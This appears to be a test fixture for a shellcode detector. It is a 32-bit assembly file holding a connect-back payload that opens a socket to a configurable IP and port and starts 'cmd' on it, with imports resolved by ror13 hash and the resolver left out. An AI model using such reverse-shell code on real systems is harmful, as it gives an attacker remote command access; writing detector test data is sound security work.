; A connect-back body: WSASocketA, connect to {AF_INET, PORT, IP} built
; with word pushes (push dword IP; push word PORT; push word 2), then a
; shell on the socket. Imports by ror13 hash; the resolver is left out.
; Test data for botscope's shellcode finder: assembled and decoded, never
; executed.
; nasm -f bin -D IPLE=0x0100007f -D PORT=8080 connect_body.asm
bits 32
    cld
    xor ebx, ebx
    push ebx
    push ebx
    push ebx
    push ebx
    push byte 1                 ; SOCK_STREAM
    push byte 2                 ; AF_INET
    push dword 0xadf509d9       ; WSASocketA
    call ebp
    xchg eax, edi
    push dword IPLE             ; sin_addr, network order in memory
    push word ((PORT >> 8) & 0xff) | ((PORT & 0xff) << 8)
    push word 2                 ; AF_INET
    mov esi, esp
    push byte 16
    push esi
    push edi
    push dword 0x60aaf9ec       ; connect
    call ebp
    push dword 0x00646d63       ; "cmd"
    mov esi, esp
    push edi
    push edi
    push edi
    push esi
    push dword 0x16b3fe72       ; CreateProcessA
    call ebp
    push ebx
    push dword 0x73e2d87e       ; ExitProcess
    call ebp
